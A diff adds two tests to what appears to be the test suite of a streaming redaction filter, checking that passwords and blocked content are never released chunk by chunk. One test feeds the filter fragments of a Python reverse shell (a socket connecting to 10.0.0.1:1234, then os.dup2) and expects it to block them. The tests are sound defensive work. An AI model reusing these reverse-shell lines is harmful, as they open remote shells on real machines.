@@ -300,6 +300,28 @@ def test_a_stream_acts_like_the_whole_answer_when_a_rule_reads_far_back(output, 
         assert streamed == redact(text, whole) and "Hunter2Pass9" not in streamed
 
 
+@pytest.mark.parametrize("size", [1, 2, 3, 4, 7])
+def test_letters_that_lower_case_longer_do_not_shift_the_hold(output, policy, size):
+    """`İ` lower-cases to two characters: keyword positions must still line up with the text (a review found
+    the first characters of a password released after a run of them)."""
+    text, low = "İ" * 40 + " " + "word " * 40 + 'password = "Summer2024!x"\nok\n', policy.risk["low"]
+    whole = output.scan(text, low)
+    f = StreamFilter(lambda t: output.scan(t, low), output.hold_keywords(low), policy.stream.holdback_chars,
+                     policy.stream.max_pending_chars, context=output.context_chars(low))
+    assert "".join(stream_through(f, text, [size])) == redact(text, whole) and "Summ" not in redact(text, whole)
+
+
+def test_a_chunk_ending_at_a_newline_does_not_release_the_lines_last_token(output, policy):
+    """A token right before a final newline may still be joined by what follows (a reverse shell's next
+    line): it is held a chunk longer, so the address is never released before the block."""
+    low = policy.risk["low"]
+    f = StreamFilter(lambda t: output.scan(t, low), output.hold_keywords(low), policy.stream.holdback_chars,
+                     policy.stream.max_pending_chars, context=output.context_chars(low))
+    released = [f.feed(c) for c in ("s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n",
+                                    's.connect(("10.0.0.1",1234))\n', "os.dup2(s.fileno(),0)\n")] + [f.finish()]
+    assert f.blocked and "10.0.0.1" not in "".join(released), released
+
+
 @pytest.mark.parametrize("sizes", [[1], [2, 3], [5], [7, 1, 13], [64]], ids=str)
 def test_stream_never_releases_a_secret_in_any_chunk(output, policy, sizes):
     key = "AKIA" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
